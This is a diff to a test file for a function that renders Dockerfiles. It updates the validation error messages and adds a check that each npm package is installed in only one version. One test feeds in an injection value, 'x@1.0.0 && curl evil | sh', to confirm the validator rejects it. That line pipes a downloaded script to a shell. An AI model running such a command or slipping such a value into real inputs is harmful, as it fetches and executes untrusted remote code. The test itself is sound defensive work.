@@ -68,12 +68,16 @@ describe("renderDockerfile", () => {
 
   test("refuses values it cannot vouch for", () => {
     expect(() => renderDockerfile({ ...INPUT, baseImage: "node:lts-trixie-slim" })).toThrow(
-      'Dockerfile: invalid base image: "node:lts-trixie-slim"',
+      'Dockerfile (components/fly/renderDockerfile.ts): a valid base image (a Dockerfile has no escaping): "node:lts-trixie-slim"',
     );
     expect(() => renderDockerfile({ ...INPUT, npmPackages: ["paperclipai@latest"] })).toThrow(
-      'Dockerfile: invalid npm package: "paperclipai@latest"',
+      'a valid npm package pinned to an exact version (a Dockerfile has no escaping): "paperclipai@latest"',
     );
-    expect(() => renderDockerfile({ ...INPUT, npmPackages: ["x@1.0.0 && curl evil | sh"] })).toThrow("Dockerfile: invalid npm package");
-    expect(() => renderDockerfile({ ...INPUT, seedConfigPath: "/etc/paper clip.json" })).toThrow("Dockerfile: invalid seed config path");
+    expect(() => renderDockerfile({ ...INPUT, npmPackages: ["x@1.0.0 && curl evil | sh"] })).toThrow("a valid npm package");
+    expect(() => renderDockerfile({ ...INPUT, seedConfigPath: "/etc/paper clip.json" })).toThrow("a valid seed config path");
+    expect(() => renderDockerfile({ ...INPUT, npmPackages: ["paperclipai@1.0.0", "@scope/cli@1.0.0", "paperclipai@2.0.0"] })).toThrow(
+      'one version of each npm package: paperclipai is already installed as paperclipai@1.0.0: "paperclipai@2.0.0"',
+    );
+    expect(() => renderDockerfile({ ...INPUT, npmPackages: ["@scope/cli@1.0.0", "@scope/other@1.0.0"] })).not.toThrow();
   });
 });
